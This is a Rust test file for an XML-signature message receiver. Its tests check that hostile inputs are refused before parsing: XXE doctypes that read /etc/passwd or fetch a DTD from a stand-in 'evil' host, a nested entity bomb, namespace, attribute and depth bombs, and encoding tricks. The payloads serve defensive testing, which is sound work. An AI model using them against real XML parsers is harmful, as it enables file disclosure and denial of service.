//! Attacks by the document itself: each is refused at a limit, or for what it is, before anything
//! is interpreted.

use xml_security::{Limits, Malformed, SignatureRefusal};

use crate::message::{Refusal, receive_call, refused, replaced, signed_call};

/// The accepted call with `evil` in its Body.
fn call_holding(evil: &str) -> String {
    replaced(&signed_call(), "</s:Body>", &format!("{evil}</s:Body>"))
}

/// An attack must be small enough to be looked at, or it is refused for its size alone.
#[track_caller]
fn within_size(attack: &str) -> &[u8] {
    assert!(attack.len() <= Limits::default().size, "{} bytes", attack.len());
    attack.as_bytes()
}

#[test]
fn xxe() {
    for doctype in [
        "<!DOCTYPE s:Envelope [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>",
        "<!DOCTYPE s:Envelope SYSTEM \"http://evil.invalid/evil.dtd\">",
        "<!DOCTYPE s:Envelope [<!ENTITY % x SYSTEM \"http://evil.invalid/\"> %x;]>",
        "<!DOCTYPE s:Envelope>",
    ] {
        let attack = replaced(&signed_call(), "alice", "&x;");
        let attack = [doctype, &attack].concat();
        refused!(
            receive_call(within_size(&attack)),
            Refusal::Malformed(Malformed::Doctype { at: 0 })
        );
    }
}

#[test]
fn a_time_that_its_offset_carries_out_of_the_calendar() {
    for time in ["9999-12-31T23:59:59-23:59", "0000-01-01T00:00:00+23:59"] {
        let attack = replaced(&signed_call(), "2030-03-01T08:00:00Z", time);
        refused!(
            receive_call(within_size(&attack)),
            Refusal::Signature(SignatureRefusal::Shape(_))
        );
    }
}

#[test]
fn an_entity_that_is_not_declared() {
    let attack = replaced(&signed_call(), "alice", "&x;");
    refused!(receive_call(within_size(&attack)), Refusal::Malformed(Malformed::Syntax { .. }));
}

#[test]
fn an_entity_bomb() {
    let mut declarations = "<!ENTITY a0 \"ha\">".to_owned();
    for level in 1..30 {
        let below = format!("&a{};", level - 1).repeat(10);
        declarations.push_str(&format!("<!ENTITY a{level} \"{below}\">"));
    }
    let attack = replaced(&signed_call(), "alice", "&a29;");
    let attack = format!("<!DOCTYPE s:Envelope [{declarations}]>{attack}");
    refused!(receive_call(within_size(&attack)), Refusal::Malformed(Malformed::Doctype { at: 0 }));
}

#[test]
fn a_document_type_inside_the_document() {
    let attack = call_holding("<!DOCTYPE x>");
    refused!(receive_call(within_size(&attack)), Refusal::Malformed(Malformed::Doctype { .. }));
}

#[test]
fn a_namespace_bomb_in_depth() {
    // 10 s of processor time for a parser without limits.
    let attack: String = (0..3_000).map(|n| format!("<n xmlns:p{n}=\"urn:{n}\">")).collect();
    let attack = call_holding(&[attack, "</n>".repeat(3_000)].concat());
    refused!(
        receive_call(within_size(&attack)),
        Refusal::Malformed(Malformed::TooDeep { limit: 64, .. })
    );
}

#[test]
fn a_namespace_bomb_within_the_depth() {
    let tag = |level: usize| -> String {
        (0..20).map(|n| format!(" xmlns:p{level}x{n}=\"urn:{n}\"")).collect()
    };
    let open: String = (0..10).map(|level| format!("<n{}>", tag(level))).collect();
    let attack = call_holding(&[open, "</n>".repeat(10)].concat());
    refused!(
        receive_call(within_size(&attack)),
        Refusal::Malformed(Malformed::TooManyBindings { limit: 128, .. })
    );
}

#[test]
fn a_namespace_bomb_on_one_element() {
    let declarations: String = (0..5_000).map(|n| format!(" xmlns:p{n}=\"urn:{n}\"")).collect();
    let attack = call_holding(&format!("<n{declarations}/>"));
    refused!(
        receive_call(within_size(&attack)),
        Refusal::Malformed(Malformed::TooManyDeclarations { limit: 32, .. })
    );
}

#[test]
fn a_namespace_bomb_in_breadth() {
    let attack: String = (0..3_000).map(|n| format!("<n xmlns=\"urn:{n}\"/>")).collect();
    refused!(
        receive_call(within_size(&call_holding(&attack))),
        Refusal::Malformed(Malformed::TooManyDeclarationsInAll { limit: 2_048, .. })
    );
}

#[test]
fn a_namespace_with_a_long_name() {
    let attack = call_holding(&format!("<n xmlns=\"urn:{}\"/>", "x".repeat(100_000)));
    refused!(
        receive_call(within_size(&attack)),
        Refusal::Malformed(Malformed::NamespaceTooLong { limit: 256, .. })
    );
}

#[test]
fn an_attribute_bomb() {
    let attributes: String = (0..18_000).map(|n| format!(" a{n}=\"\"")).collect();
    let attack = call_holding(&format!("<n{attributes}/>"));
    refused!(
        receive_call(within_size(&attack)),
        Refusal::Malformed(Malformed::TooManyAttributes { limit: 64, .. })
    );
}

#[test]
fn a_depth_bomb() {
    let attack = call_holding(&["<n>".repeat(35_000), "</n>".repeat(35_000)].concat());
    refused!(
        receive_call(within_size(&attack)),
        Refusal::Malformed(Malformed::TooDeep { limit: 64, .. })
    );
}

#[test]
fn a_bomb_of_many_small_parts() {
    for part in ["<n/>", "a<n/>", "<!---->", "&lt;", "<![CDATA[]]>"] {
        let attack = call_holding(&part.repeat(20_000));
        refused!(
            receive_call(within_size(&attack)),
            Refusal::Malformed(Malformed::TooManyEvents { limit: 20_000, .. })
        );
    }
}

#[test]
fn a_message_that_is_too_large() {
    let attack = call_holding(&" ".repeat(256 * 1024));
    refused!(
        receive_call(attack.as_bytes()),
        Refusal::Malformed(Malformed::TooLarge { size, limit: 262_144 }) if *size == attack.len()
    );
}

#[test]
fn a_processing_instruction() {
    for attack in [
        call_holding("<?php evil?>"),
        ["<?xml-stylesheet href=\"evil.xsl\"?>", &signed_call()].concat(),
    ] {
        refused!(
            receive_call(within_size(&attack)),
            Refusal::Malformed(Malformed::ProcessingInstruction { .. })
        );
    }
}

#[test]
fn a_truncated_message_wherever_it_is_cut() {
    let whole = signed_call();
    for end in 0..whole.len() {
        refused!(
            receive_call(&whole.as_bytes()[..end]),
            Refusal::Malformed(Malformed::Syntax { .. })
        );
    }
}

#[test]
fn a_message_with_bytes_that_are_not_utf_8() {
    let whole = signed_call();
    let at = whole.find("alice").unwrap();
    for bad in [&b"\xFF"[..], b"\xC3", b"\xED\xA0\x80", b"\xC0\xBC", b"\xF4\x90\x80\x80"] {
        let attack = [&whole.as_bytes()[..at], bad, &whole.as_bytes()[at..]].concat();
        refused!(
            receive_call(&attack),
            Refusal::Malformed(Malformed::NotUtf8 { at: found }) if *found == at
        );
    }
}

#[test]
fn a_message_in_another_encoding() {
    let whole = signed_call();
    let big: Vec<u8> = whole.encode_utf16().flat_map(u16::to_be_bytes).collect();
    let little: Vec<u8> = whole.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let mark = |mark: &[u8], text: &[u8]| [mark, text].concat();
    for attack in [mark(b"\xFE\xFF", &big), mark(b"\xFF\xFE", &little), big.clone(), little.clone()]
    {
        refused!(
            receive_call(&attack),
            Refusal::Malformed(Malformed::WrongEncoding { declared }) if declared == "UTF-16"
        );
    }
    let latin = format!("<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>{whole}");
    refused!(
        receive_call(latin.as_bytes()),
        Refusal::Malformed(Malformed::WrongEncoding { declared }) if declared == "ISO-8859-1"
    );
}

#[test]
fn a_message_that_parsers_would_read_in_two_ways() {
    let attack = replaced(&signed_call(), "<s:Body", "<s:Body xmlns=\"urn:a\" xmlns=\"urn:b\"");
    refused!(receive_call(attack.as_bytes()), Refusal::Malformed(Malformed::BadDeclaration { .. }));
    let attack = replaced(&signed_call(), "<s:Body", "<s:Body s:xmlns=\"urn:b\"");
    refused!(receive_call(attack.as_bytes()), Refusal::Malformed(Malformed::BadDeclaration { .. }));
}

#[test]
fn a_refusal_is_short_however_long_what_it_is_about() {
    let long = "x".repeat(100_000);
    let whole = signed_call();
    for (from, to) in [
        ("URI=\"#body\"", format!("URI=\"#{long}\"")),
        ("URI=\"#body\"", format!("URI=\"{long}\"")),
        ("<Transform Algorithm=\"", format!("<Transform Algorithm=\"{long}")),
        ("<DigestMethod Algorithm=\"", format!("<DigestMethod Algorithm=\"{long}")),
        ("<SignatureMethod Algorithm=\"", format!("<SignatureMethod Algorithm=\"{long}")),
        (
            "<CanonicalizationMethod Algorithm=\"",
            format!("<CanonicalizationMethod Algorithm=\"{long}"),
        ),
        ("<SignedInfo>", format!("<{long}/><SignedInfo>")),
        ("<s:Header>", format!("<{long}/><s:Header>")),
        ("<o:Security>", format!("<{long}/><o:Security>")),
        ("</s:Body>", format!("<x u:Id=\"{long}\"/><x u:Id=\"{long}\"/></s:Body>")),
        ("</u:Timestamp>", format!("</u:Timestamp><o:BinarySecurityToken ValueType=\"{long}\"/>")),
        ("<u:Created>", format!("<u:Created>{long}")),
        ("<s:Envelope", format!("<?xml version=\"{long}\"?><s:Envelope")),
        ("<s:Envelope", format!("<?xml version=\"1.0\" encoding=\"{long}\"?><s:Envelope")),
        ("<s:Envelope", format!("<{long}:Envelope")),
    ] {
        let refusal = receive_call(within_size(&replaced(&whole, from, &to))).expect_err(from);
        let text = format!("{refusal:?}");
        assert!(text.len() < 2_000, "{} bytes for {from}", text.len());
    }
}
